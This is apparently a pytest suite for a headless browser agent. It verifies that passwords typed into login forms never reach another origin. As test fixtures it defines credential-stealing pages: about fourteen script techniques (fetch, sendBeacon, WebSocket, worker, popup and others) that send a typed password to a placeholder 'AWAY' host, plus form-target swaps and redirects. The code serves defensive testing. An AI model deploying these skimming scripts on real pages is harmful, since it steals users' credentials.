"""Text that tasks type in headless pages reaches no other origin: proved by the log of the other server."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser

from tests.chromium import find_chromium
from tests.devserver.agents.goal_api.client import done
from tests.e2e.test_headless import headless_of
from tests.server import HostedServer, Server
from tests.upstream import Asked, RawServer, html, listening, reply

CREDENTIALS = {"username": "steeper", "password": "steep-well"}
FIELDS = "<label>User <input name=user autocomplete=username></label><label>Password <input name=pass type=password></label>"
AFTER = html("<title>Inside</title><h1>Welcome</h1><p>You are logged in.")


def login(form: str = "action=/in", button: str = "", more: str = "") -> str:
    """Return a page with a form for logging in."""
    return (
        f"<!doctype html><title>Log in</title><form method=post id=login {form}>{FIELDS}"
        f"<button {button}>Log in</button></form>{more}"
    )


def on_submit(script: str) -> str:
    """Return a page whose script runs with the password when the form is submitted."""
    return login(
        more=f"<script>login.onsubmit = (event) => {{ const secret = login.pass.value; {script} }}</script>"
    )


def on_input(script: str) -> str:
    """Return a page whose script runs with each value that is typed."""
    return login(
        more=f"<script>login.oninput = (event) => {{ const secret = event.target.value; {script} }}</script>"
    )


REFUSED_BEFORE = {
    "action": login("action=AWAY/in"),
    "formaction": login(button="formaction=AWAY/in"),
    "base": login("action=in", more="<base href='AWAY/'>"),
    "get": login("action=AWAY/in method=get"),
    "new tab": login("action=AWAY/in target=_blank"),
    "frame": login("action=AWAY/in target=inner", more="<iframe name=inner></iframe>"),
    "mail": login("action=mailto:thief@example.org"),
}
"""Pages whose target is another origin before anything is typed."""

REFUSED_AFTER = {
    "action set while typing": on_input("login.action = 'AWAY/in'"),
    "action set when submitted": on_submit("login.action = 'AWAY/in'"),
    "formaction set when submitted": on_submit(
        "document.querySelector('button').setAttribute('formaction', 'AWAY/in')"
    ),
    "address": on_submit("event.preventDefault(); location = 'AWAY/?' + secret"),
    "redirect 307": login("action=/moved"),
    "redirect 308": login("action=/moved308"),
}
"""Pages that change the target once the password is typed."""

WAYS = {
    "fetch": "fetch(`${away}/fetch`, {method: 'POST', mode: 'no-cors', body: secret})",
    "beacon": "navigator.sendBeacon(`${away}/beacon`, secret)",
    "image": "new Image().src = `${away}/image?${secret}`",
    "socket": "new WebSocket(`${away}/socket?${secret}`.replace('http', 'ws'))",
    "events": "new EventSource(`${away}/events?${secret}`)",
    "script": "add('script', {src: `${away}/script?${secret}`})",
    "style": "add('link', {rel: 'stylesheet', href: `${away}/style?${secret}`})",
    "ping": "add('a', {href: '#x', ping: `${away}/ping?${secret}`}).click()",
    "frame": "add('iframe', {src: `${away}/frame?${secret}`})",
    "form": "const f = add('iframe', {}).contentDocument; f.body.innerHTML = "
    "`<form method=post action='${away}/form'><input name=x value='${secret}'>`; f.forms[0].submit()",
    "worker": "new Worker(URL.createObjectURL("
    "new Blob([`fetch('${away}/worker?${secret}', {mode: 'no-cors'})`])))",
    "service": "navigator.serviceWorker.ready.then((r) => r.active.postMessage(secret))",
    "window": "open(`${away}/window?${secret}`)",
    "blank": "const w = open('about:blank'); if (w) w.location = `${away}/blank?${secret}`",
}
"""The ways in which a script of a page reaches another server, each by an address of its name."""

SPY = login(
    more="<script>const away = 'AWAY'; navigator.serviceWorker.register('/sw.js'); "
    "const add = (name, more) => { const e = Object.assign(document.createElement(name), more); "
    "document.body.append(e); return e }; "
    "const send = (secret) => {"
    + "".join(f" try {{ {way} }} catch {{}}" for way in WAYS.values())
    + " }; login.pass.oninput = () => send(login.pass.value); "
    "addEventListener('pagehide', () => navigator.sendBeacon(`${away}/beacon`, login.pass.value))</script>"
)
"""A page that uses all of them when a password is typed, and once more when it is left."""

SEARCH = "<title>Find</title><form action=AWAY/found role=search><input type=search name=q></form>"
CONTACT = (
    "<title>Contact</title><form method=post action=AWAY/contact><label>Name <input name=name></label>"
    "<button>Send</button></form>"
)
REST = {
    "spy": SPY,
    "search": SEARCH,
    "contact": CONTACT,
    "assets": login(more="<img src=AWAY/image.png><script src=AWAY/code.js></script>"),
}

PAGES = {**REFUSED_BEFORE, **REFUSED_AFTER, **REST}


def mostly_later(pages: Iterable[str], *now: str) -> list[Any]:
    """Return names of pages for a test; all but some of them wait for `make conformance`."""
    later = pytest.mark.conformance
    return [name if name in now else pytest.param(name, marks=later) for name in pages]


@dataclass(frozen=True)
class Traps:
    """A site that is not to be trusted, another one, and two servers with tasks."""

    site: RawServer
    away: RawServer
    own: Server
    """In front of the site."""
    allowing: Server
    """With the site as an allowed origin."""

    async def log_in(self, server: Server, page: str) -> dict[str, Any]:
        """Log in on a page; return how the task ended."""
        self.clear()
        return await done(server, "log in", url=self.url(server, page), credentials=CREDENTIALS)

    def url(self, server: Server, page: str) -> str:
        """Return the address of a page for a task."""
        return f"{self.site.url}/{page}" if server is self.allowing else f"/{page}"

    def clear(self) -> None:
        """Forget what both sites were asked."""
        del self.site.asked[:], self.away.asked[:]

    @property
    def lines(self) -> list[str]:
        """The requests that the other server got."""
        return [asked.line for asked in self.away.asked]


@pytest.fixture(name="traps", scope="module")
def _traps(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Traps]:
    with (
        pytest.MonkeyPatch.context() as patch,
        listening() as site,
        listening() as away,
    ):
        patch.setenv("CHROMIUM", str(find_chromium()))
        away.answer = html("<title>Away</title>")
        names = {"".join(c if c.isalnum() else "_" for c in key): key for key in PAGES}
        moved = f"Location: {away.url}/in\nContent-Length: 0"
        worker = b"onmessage = (e) => fetch('AWAY/service?' + e.data, {mode: 'no-cors'})"
        script = worker.replace(b"AWAY", away.url.encode())
        fixed = {
            "in": AFTER,
            "moved": reply(f"HTTP/1.1 307 Temporary Redirect\n{moved}"),
            "moved308": reply(f"HTTP/1.1 308 Permanent Redirect\n{moved}"),
            "sw.js": reply(
                f"HTTP/1.1 200 OK\nContent-Type: text/javascript\nContent-Length: {len(script)}",
                script,
            ),
        }

        def answer(asked: Asked, connection: Any) -> None:
            path = asked.line.split()[1].split("?")[0].strip("/")
            page = html(PAGES[names[path]].replace("AWAY", away.url)) if path in names else AFTER
            fixed.get(path, page)(asked, connection)

        site.answer = answer
        root = tmp_path_factory.mktemp("traps")
        (root / "index.html").write_text("<title>Home</title><p>Nothing here.", encoding="utf-8")
        own = HostedServer(root, "--headless", "--proxy", site.url)
        allowing = HostedServer(root, "--headless", "--allow-origin", site.url)
        yield Traps(site, away, own, allowing)
        own.stop()
        allowing.stop()


@pytest.fixture(
    name="server", params=["own", pytest.param("allowing", marks=pytest.mark.conformance)]
)
def _server(request: pytest.FixtureRequest, traps: Traps) -> Server:
    """The server with the site behind it, or with its origin allowed."""
    found: Server = getattr(traps, request.param)
    return found


def path_of(name: str) -> str:
    return "".join(c if c.isalnum() else "_" for c in name)


@pytest.mark.parametrize("name", mostly_later(REFUSED_BEFORE, "action", "frame"))
async def test_nothing_is_typed_into_a_form_for_another_origin(traps: Traps, name: str) -> None:
    """The error names both origins, before the page has any of it."""
    event = await traps.log_in(traps.own, path_of(name))

    assert event["status"] == "failed"
    assert "would be sent to `" in event["error"]
    assert f"the page is of `{traps.own.url}`" in event["error"]
    assert (traps.away.url in event["error"]) == (name != "mail")
    assert traps.lines == []
    assert not any(asked.line.startswith("POST") for asked in traps.site.pages)


@pytest.mark.parametrize(
    "name", mostly_later(REFUSED_AFTER, "action set while typing", "redirect 307")
)
async def test_a_target_that_changes_after_the_typing_gets_nothing(traps: Traps, name: str) -> None:
    """Whether a script or the server changes it; the task fails and names the origin."""
    event = await traps.log_in(traps.own, path_of(name))

    assert traps.lines == []
    assert event["status"] == "failed", event
    assert traps.away.url in event["error"]


async def test_pages_of_allowed_origins_are_no_way_out(traps: Traps) -> None:
    """Their forms, scripts and redirects neither; an allowed origin is no reason to send secrets."""
    for name in ("action", "formaction", "action set when submitted", "redirect 307"):
        event = await traps.log_in(traps.allowing, path_of(name))
        assert traps.lines == []
        assert event["status"] == "failed", event
        assert traps.away.url in event["error"]


async def test_scripts_send_a_secret_to_no_other_origin(
    traps: Traps, server: Server, browser: Browser
) -> None:
    """By none of the ways that work in a browser of somebody else, while the log-in itself works."""
    traps.clear()
    page = await browser.new_page()
    await page.goto(f"{traps.site.url}/spy")
    await page.evaluate("navigator.serviceWorker.ready")
    async with page.expect_popup():
        await page.get_by_label("Password").fill("seen")
    async with asyncio.timeout(20):
        while WAYS.keys() - {ways_in(line) for line in traps.lines}:  # noqa: ASYNC110
            await asyncio.sleep(0.05)
    await page.context.close()
    event = await traps.log_in(server, "spy")
    # The way that takes longest; by then the others would have come.
    again = await traps.log_in(server, "spy")

    assert traps.lines == []
    for ended in (event, again):
        assert ended["status"] == "completed", ended
        assert traps.away.url.removeprefix("http://") in ended["steps"][-1]["description"]


async def test_data_for_another_origin_needs_the_setting(traps: Traps, server: Server) -> None:
    """A search and a form are refused before anything is typed; the error names the setting."""
    traps.clear()
    found = await done(server, "search for tea", url=traps.url(server, "search"))
    url = traps.url(server, "contact")
    sent = await done(server, "fill the form with name Ada and submit it", url=url)

    for event in (found, sent):
        assert event["status"] == "failed"
        assert f"would be sent to `{traps.away.url}`" in event["error"]
        assert f"`--allow-origin {traps.away.url}`" in event["error"]
    assert traps.lines == []


# On a busy machine the log-in may begin before the page has asked for its files.
@pytest.mark.conformance
async def test_an_ordinary_page_loads_what_it_is_made_of(traps: Traps, server: Server) -> None:
    """From other origins too, before anything is typed; and the log-in works."""
    event = await traps.log_in(server, "assets")

    assert event["status"] == "completed", event
    assert {line.split()[1] for line in traps.lines} >= {"/image.png", "/code.js"}


@pytest.mark.parametrize("where", ["elsewhere", "headless"])
async def test_peer_connections_find_no_way_around(
    traps: Traps, browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    """WebRTC sends nothing by UDP from headless pages, and does in a browser of somebody else."""
    monkeypatch.setenv("CHROMIUM", str(find_chromium()))
    own = headless_of(tmp_path, traps.site.url)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.setblocking(False)
        script = f"""async () => {{
          const ended = new Promise((resolve) => setTimeout(resolve, 1500));
          const p = new RTCPeerConnection(
            {{iceServers: [{{urls: 'stun:127.0.0.1:{listener.getsockname()[1]}'}}]}});
          p.createDataChannel('x');
          await p.setLocalDescription(await p.createOffer());
          await ended;
        }}"""
        if where == "headless":
            async with own.cross_origin_page(f"{traps.site.url}/in") as port:
                await port.page.evaluate(script)
        else:
            page = await browser.new_page()
            await page.goto(f"{traps.site.url}/in")
            await page.evaluate(script)
            await page.context.close()
        await own.close()
        try:
            received = listener.recv(100)
        except BlockingIOError:
            received = b""

    assert bool(received) == (where == "elsewhere")


def ways_in(line: str) -> str:
    """Return the name of the way by which a request has come."""
    return line.split()[1].strip("/").partition("?")[0]
